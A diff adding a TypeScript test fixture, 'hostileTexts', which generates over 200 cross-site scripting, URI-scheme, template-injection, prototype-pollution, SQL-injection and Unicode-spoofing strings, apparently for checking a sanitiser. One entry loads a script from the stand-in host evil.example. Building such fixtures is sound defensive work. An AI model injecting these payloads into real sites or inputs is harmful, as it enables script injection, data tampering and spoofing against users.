@@ -1,0 +1,97 @@
+/** Code that would mark the page if it ever ran. */
+const mark = 'window.hurt=1'
+const call = 'alert(1)'
+
+const attributes = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle']
+const elements = [
+  'img src=x',
+  'svg',
+  'body',
+  'iframe srcdoc=x',
+  'video src=x',
+  'audio src=x',
+  'details open',
+  'input autofocus',
+]
+const schemes = [
+  'javascript:',
+  'JaVaScRiPt:',
+  ' javascript:',
+  'java\tscript:',
+  'java\nscript:',
+  '\u0001javascript:',
+  'vbscript:',
+  'data:text/html,',
+  'data:text/html;base64,',
+  'data:image/svg+xml,',
+  'blob:',
+  'file:///',
+  'feed:javascript:',
+  'view-source:javascript:',
+]
+const quotes = ['', '"', "'", '`', '">', "'>", '-->', '</title>', '</textarea>', '</style>', '</script>', ']]>']
+
+const singles = [
+  `<script>${mark}</script>`,
+  `<ScRiPt>${mark}</sCrIpT>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<scr<script>ipt>${mark}</scr</script>ipt>`,
+  `<svg><script>${mark}</script></svg>`,
+  `<svg><animate onbegin=${mark} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${mark}"><text x=20 y=20>x</text></a></svg>`,
+  `<math><maction actiontype="statusline#" xlink:href="javascript:${mark}">x</maction></math>`,
+  `<object data="javascript:${mark}">`,
+  `<embed src="javascript:${mark}">`,
+  `<base href="javascript:${mark}//">`,
+  `<link rel=stylesheet href="javascript:${mark}">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${mark}">`,
+  `<form action="javascript:${mark}"><button>x</button></form>`,
+  `<template><img src=x onerror=${mark}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${mark}>">`,
+  `<style>@import 'javascript:${mark}';</style>`,
+  `<div style="background:url(javascript:${mark})">`,
+  `<div style="width:expression(${mark})">`,
+  `<xss contenteditable onfocus=${mark} autofocus>`,
+  `[link](javascript:${mark})`,
+  `[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  `![x](x"onerror="${mark})`,
+  `<https://example.org" onclick="${mark}>`,
+  `https://example.org/"onmouseover="${mark}`,
+  `https://example.org/<img src=x onerror=${mark}>`,
+  `https://user:${call}@evil.example/`,
+  `https://bank.example\u202Egpj.exe`,
+  `mailto:x@example.org?subject=<script>${mark}</script>`,
+  `{{constructor.constructor('${mark}')()}}`,
+  `\${${mark}}`,
+  `<%= ${mark} %>`,
+  `#{${mark}}`,
+  `__proto__`,
+  `constructor`,
+  `{"__proto__":{"polluted":1}}`,
+  `{count, plural, one {#} other {${mark}}}`,
+  `'{name}'`,
+  `&lt;script&gt;${mark}&lt;/script&gt;`,
+  `&#60;script&#62;${mark}&#60;/script&#62;`,
+  `\\u003cscript\\u003e${mark}\\u003c/script\\u003e`,
+  `%3Cscript%3E${mark}%3C/script%3E`,
+  `\uFEFF<script>${mark}</script>`,
+  `\u202E<tpircs>`,
+  `\u2066\u2067\u2068 turned`,
+  `${'\u0300'.repeat(200)}Zalgo`,
+  `${'W'.repeat(2_000)}`,
+  `${'\u{1F468}\u200D'.repeat(40)}`,
+  `\u0000 nothing \u0007 bell`,
+  `'; DROP TABLE entries; --`,
+]
+
+/** Over 200 texts that did harm somewhere. */
+export const hostileTexts: readonly string[] = [
+  ...singles,
+  ...attributes.flatMap((attribute) => elements.map((element) => `<${element} ${attribute}=${mark}>`)),
+  ...quotes.flatMap((quote) => [
+    `${quote}<img src=x onerror=${mark}>`,
+    `${quote} onfocus=${mark} autofocus x=${quote}`,
+  ]),
+  ...schemes.flatMap((scheme) => [`${scheme}${mark}`, `see ${scheme}//${call}`, `<a href="${scheme}${mark}">x</a>`]),
+  ...quotes.flatMap((quote) => schemes.slice(0, 4).map((scheme) => `${quote}${scheme}${call}${quote}`)),
+]
